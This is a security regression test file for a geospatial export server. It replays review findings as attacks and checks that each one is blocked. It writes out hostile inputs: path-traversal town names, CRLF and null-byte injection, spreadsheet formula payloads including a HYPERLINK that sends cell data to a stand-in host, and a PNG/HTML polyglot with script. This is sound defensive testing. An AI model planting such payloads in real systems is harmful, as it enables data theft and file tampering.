import { monitorEventLoopDelay } from 'node:perf_hooks';
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildServer } from '../server/app.ts';
import { safeName } from '../export/names.ts';
import { createLogger } from '../core/log.ts';
import { exportPatches } from '../export/patches.ts';
import { filesUnder, hostileServer, JPEG, OWN } from './helpers/hostile.ts';

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

/**
 * The security review's findings (issue 17) on exports, files and evidence, each replayed as an attack against
 * `tuban serve` on real PostGIS: these failed before the fixes and guard them now.
 */
describe('security: exports, files and evidence', () => {
  const h = hostileServer();
  const { call, env, token } = h;

  it('finding 1 (High): a town in the export query never reaches a path; exports leave no file behind', async () => {
    // another town's evidence file is the target, as in the review
    const up = await call('heshan', 'POST', `/api/patches/350206-202403-0001/evidence?filename=site.jpg`, JPEG, {
      'content-type': 'image/jpeg',
    });
    expect(up.statusCode).toBe(201);
    // the file this upload stored (other scenarios may have stored more)
    const stored = (await h.run.db('evidence').where({ id: up.json().id }).first('stored_as')).stored_as as string;
    const evidence = filesUnder(join(h.run.config.dataDir, 'evidence')).filter((f) => f === stored);
    expect(evidence).toHaveLength(1);
    const before = readFileSync(evidence[0]);
    const target = evidence[0].replace(/\.jpg$/, '');
    const escape = `tuban-escape-${process.pid}`;
    const escapes = [
      `../../../../../../../../tmp/${escape}`,
      '../../../../x',
      `../../../../../../../..${target}`,
      `../evidence/${target.split('/').slice(-2).join('/')}`,
      'a/b',
      '..',
      'x\r\nSet-Cookie: a=b',
      'x\u0000y',
    ];
    for (const town of escapes) {
      const r = await call('dianqian', 'GET', `/api/export?month=2024-03&format=csv&town=${encodeURIComponent(town)}`);
      expect(r.statusCode, town).toBe(400);
      expect(r.json().message, town).toMatch(/town/);
    }
    expect(sha256(readFileSync(evidence[0]))).toBe(sha256(before));
    expect(existsSync(`/tmp/${escape}.csv`)).toBe(false);

    // a good export streams, is named from a sanitised town, and leaves nothing on disk
    const ok = await call('dianqian', 'GET', '/api/export?month=2024-03&format=csv&town=350206001');
    expect(ok.statusCode, ok.body).toBe(200);
    // named for a yearly register: town code, town name, month (ASCII in filename=, UTF-8 in filename*=)
    const disposition = String(ok.headers['content-disposition']);
    expect(disposition).toMatch(/filename="350206001_[_]+2024-03\.csv"/);
    expect(decodeURIComponent(/filename\*=UTF-8''([^;]+)/.exec(disposition)![1])).toBe(
      '350206001_殿前街道_2024-03.csv',
    );
    expect(ok.body).toContain('350206-202403-0002');
    // four at once: two are streamed, the others made as files; every one the same bytes
    const four = await Promise.all(
      [1, 2, 3, 4].map(() => call('dianqian', 'GET', '/api/export?month=2024-03&format=csv&town=350206001')),
    );
    for (const r of four) {
      expect(r.statusCode).toBe(200);
      expect(r.rawPayload.equals(ok.rawPayload)).toBe(true);
    }
    const shp = await call('dianqian', 'GET', '/api/export?month=2024-03&format=shp');
    expect(shp.statusCode, shp.body).toBe(200);
    expect(shp.rawPayload.subarray(0, 2).toString()).toBe('PK');
    // the folder goes when the response stream closes, which may be just after inject resolves
    await expect.poll(() => filesUnder(join(h.run.config.dataDir, 'tmp')), { timeout: 60_000 }).toEqual([]);
  });

  it('round three (Medium): a note that reads as a formula stays text in the CSV and the workbook', async () => {
    const attack = '=HYPERLINK("http://x/?"&A3,"查看")';
    // the export's 备注 is a patch's latest note: 0002's is the attack
    for (const [code, text] of [
      ['350206-202403-0002', '-2+3'],
      ['350206-202403-0003', '+cmd|calc'],
      ['350206-202403-0005', '@SUM(1)'],
      ['350206-202403-0002', attack],
    ])
      expect((await call('dianqian', 'POST', `/api/patches/${code}/notes`, { text })).statusCode).toBe(201);
    const csv = await call('dianqian', 'GET', '/api/export?month=2024-03&format=csv&town=350206001');
    expect(csv.statusCode).toBe(200);
    const text = csv.rawPayload.toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A3,""查看"")"`);
    expect(text).toContain(`'+cmd|calc`);
    expect(text).toContain(`'@SUM(1)`);
    expect(text).not.toMatch(/(^|,)[=+@]/m);
    // the workbook: the same cells as text with the apostrophe, and not a single formula in the file
    const xlsx = await call('dianqian', 'GET', '/api/export?month=2024-03&format=xlsx&town=350206001');
    const dir = mkdtempSync(join(tmpdir(), 'tuban-formula-'));
    writeFileSync(join(dir, 'p.xlsx'), xlsx.rawPayload);
    const cells = execFileSync(
      '/usr/bin/python3',
      [
        '-c',
        'import openpyxl,sys,json; ws=openpyxl.load_workbook(sys.argv[1]).active; print(json.dumps([[c.value, c.data_type] for r in ws.iter_rows() for c in r if isinstance(c.value, str) and c.value[:2] in ("\'=", "\'+", "\'@", "\'-") or c.data_type == "f"], ensure_ascii=False))',
        join(dir, 'p.xlsx'),
      ],
      { encoding: 'utf8' },
    );
    const found = JSON.parse(cells) as [string, string][];
    expect(found.map(([, t]) => t)).not.toContain('f');
    expect(found.map(([v]) => v)).toContain(`'${attack}`);
  });

  it('finding 1: names from the town layer are made safe before they name a zip folder or a file', () => {
    expect(safeName('../../etc/passwd')).toBe('etc_passwd');
    expect(safeName('350206001_殿前街道')).toBe('350206001_殿前街道');
    expect(safeName('..')).toBe('export');
    expect(safeName('a\\b\r\nc')).toBe('a_b_c');
    expect(safeName('.hidden')).toBe('hidden');
  });

  /** A second server on the same database, listening on loopback, with its own export limits and log. */
  async function listening(exportLimits: { running: number; waiting: number }, lines: Record<string, unknown>[] = []) {
    const srv = await buildServer({
      db: h.run.db,
      config: {
        ...h.run.config,
        TUBAN_EXPORT_CONCURRENCY: exportLimits.running,
        TUBAN_EXPORT_QUEUE: exportLimits.waiting,
      },
      env,
      log: createLogger('info', (l) => lines.push(JSON.parse(l))),
    });
    const base = await srv.listen({ host: '127.0.0.1', port: 0 });
    return {
      srv,
      base,
      pdf: (signal?: AbortSignal) =>
        fetch(`${base}/api/export?month=2024-03&format=pdf`, {
          headers: { authorization: `Bearer ${token.ana}` },
          signal,
        }),
    };
  }

  it('finding 4 (Medium): 40 concurrent PDF exports leave /api/health answering within 1 s; the line is bounded', async () => {
    const { srv, base, pdf } = await listening({ running: 2, waiting: 8 });
    try {
      const health: number[] = [];
      const rss0 = process.memoryUsage().rss;
      let rssPeak = rss0;
      let loading = true;
      const poll = (async () => {
        while (loading) {
          const t0 = performance.now();
          const h = await fetch(`${base}/api/health`, { signal: AbortSignal.timeout(30_000) });
          expect(h.status).toBe(200);
          await h.json();
          health.push(performance.now() - t0);
          rssPeak = Math.max(rssPeak, process.memoryUsage().rss);
          await new Promise((r) => setTimeout(r, 100));
        }
      })();
      const results = await Promise.all(
        Array.from({ length: 40 }, async () => {
          const r = await pdf();
          return {
            status: r.status,
            retryAfter: r.headers.get('retry-after'),
            body: Buffer.from(await r.arrayBuffer()),
          };
        }),
      );
      loading = false;
      await poll;
      const made = results.filter((r) => r.status === 200);
      const refused = results.filter((r) => r.status === 503);
      expect(made.length + refused.length).toBe(40);
      // two run, eight wait: at least those ten are made; the rest are told when to come back
      expect(made.length).toBeGreaterThanOrEqual(10);
      expect(refused.length).toBeGreaterThan(0);
      for (const r of made) expect(r.body.subarray(0, 5).toString()).toBe('%PDF-');
      for (const r of refused) {
        expect(Number(r.retryAfter)).toBeGreaterThanOrEqual(5);
        expect(JSON.parse(r.body.toString()).message).toMatch(
          /^服务器正忙：PDF\/压缩包导出有 \d+ 项进行中.*请 \d+ 秒后再试$/,
        );
      }
      console.log(
        `40 PDF exports: ${made.length} made, ${refused.length} refused; /api/health ${health.length} polls, slowest ${Math.max(...health).toFixed(0)} ms; RSS +${((rssPeak - rss0) / 2 ** 20).toFixed(0)} MB`,
      );
      expect(health.length).toBeGreaterThan(2);
      expect(Math.max(...health)).toBeLessThan(1000);
    } finally {
      await srv.close();
    }
    await expect.poll(() => filesUnder(join(h.run.config.dataDir, 'tmp')), { timeout: 60_000 }).toEqual([]);
  });

  it('round three (Info): fifty chips at once are drawn four at a time, the others in line, health answering', async () => {
    let busiest = 0;
    let slowest = 0;
    let done = false;
    const watch = (async () => {
      while (!done) {
        const t0 = performance.now();
        const health = (await call(null, 'GET', '/api/health')).json();
        slowest = Math.max(slowest, performance.now() - t0);
        busiest = Math.max(busiest, health.images.running);
        await new Promise((r) => setTimeout(r, 5));
      }
    })();
    // how long the event loop (the server's one thread for every request) is held at a time
    const stalls = monitorEventLoopDelay({ resolution: 5 });
    stalls.enable();
    const chips = await Promise.all(
      Array.from({ length: 50 }, (_, i) =>
        call('dianqian', 'GET', `/api/patches/${OWN}/chips/${['before', 'after', 'overview'][i % 3]}`),
      ),
    );
    stalls.disable();
    done = true;
    await watch;
    expect(chips.map((c) => c.statusCode)).toEqual(Array(50).fill(200));
    expect(busiest).toBeGreaterThan(0);
    expect(busiest).toBeLessThanOrEqual(4);
    console.log(
      `50 chips at once: at most ${busiest} drawn together; slowest /api/health ${slowest.toFixed(0)} ms; ` +
        `event loop held at most ${(stalls.max / 1e6).toFixed(0)} ms (p99 ${(stalls.percentile(99) / 1e6).toFixed(0)} ms)`,
    );
  });

  it('finding 4: a client that goes away leaves the line, and its export is stopped', async () => {
    const lines: Record<string, unknown>[] = [];
    const { srv, base, pdf } = await listening({ running: 1, waiting: 4 }, lines);
    const exports = async () =>
      (await (await fetch(`${base}/api/health`)).json()).exports as { running: number; waiting: number };
    try {
      const first = pdf();
      await expect.poll(exports, { timeout: 60_000, interval: 5 }).toMatchObject({ running: 1 });
      const gone = [1, 2, 3].map(() => {
        const ac = new AbortController();
        return { ac, res: pdf(ac.signal).catch((err: Error) => err) };
      });
      await expect.poll(exports, { timeout: 60_000, interval: 5 }).toMatchObject({ waiting: 3 });
      for (const g of gone) g.ac.abort();
      for (const g of gone) expect(await g.res).toBeInstanceOf(Error);
      await expect.poll(exports, { timeout: 60_000 }).toMatchObject({ waiting: 0 });
      const made = await first;
      expect(made.status).toBe(200);
      expect(
        Buffer.from(await made.arrayBuffer())
          .subarray(0, 5)
          .toString(),
      ).toBe('%PDF-');
      await expect
        .poll(() => lines.filter((l) => l.event === 'Export:Stopped' && /went away/.test(String(l.reason))).length, {
          timeout: 30_000,
        })
        .toBe(3);
      await expect.poll(exports, { timeout: 60_000 }).toEqual({ running: 0, waiting: 0 });
    } finally {
      await srv.close();
    }
    // an export already stopped writes nothing
    const ac = new AbortController();
    ac.abort(new Error('stopped by the test'));
    const out = join(h.run.config.dataDir, 'tmp-stopped.pdf');
    await expect(
      exportPatches(h.run.db, env, {
        month: '2024-03',
        format: 'pdf',
        outPath: out,
        storageSrid: h.run.config.TUBAN_STORAGE_SRID,
        signal: ac.signal,
      }),
    ).rejects.toThrow(/stopped by the test/);
    expect(existsSync(out)).toBe(false);
  });

  it('low findings: evidence comes back under its proven type and a safe name, whatever the upload was called', async () => {
    const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
    const polyglot = Buffer.concat([PNG, Buffer.from('<html><script>alert(1)</script></html>')]);
    const up = await call(
      'dianqian',
      'POST',
      `/api/patches/${OWN}/evidence?filename=${encodeURIComponent('../现场.html')}`,
      polyglot,
      { 'content-type': 'image/png' },
    );
    expect(up.statusCode, up.body).toBe(201);
    const r = await call('dianqian', 'GET', `/api/evidence/${up.json().id}`);
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-type']).toBe('image/png');
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    expect(r.headers['content-disposition']).toMatch(
      /^attachment; filename="__\.png"; filename\*=UTF-8''%E7%8E%B0%E5%9C%BA\.png$/,
    );
  });

  it('keeps the evidence of other towns where it is (the data folder holds only what the server named)', () => {
    for (const f of filesUnder(h.run.config.dataDir)) {
      const rel = f.slice(h.run.config.dataDir.length + 1);
      // evidence by its hash, the map's imagery previews by their image's and their own bytes' hashes (registration names them), the embedded database
      expect(rel, f).toMatch(
        /^(evidence\/[0-9a-f]{2}\/[0-9a-f]{64}\.(jpg|png|pdf)|previews\/\d{4}-\d{2}\/[0-9a-f]{20}-[0-9a-f]{12}\.tif|pgdata\/.*)$/,
      );
      expect(dirname(f).startsWith(h.run.config.dataDir)).toBe(true);
    }
  });
});
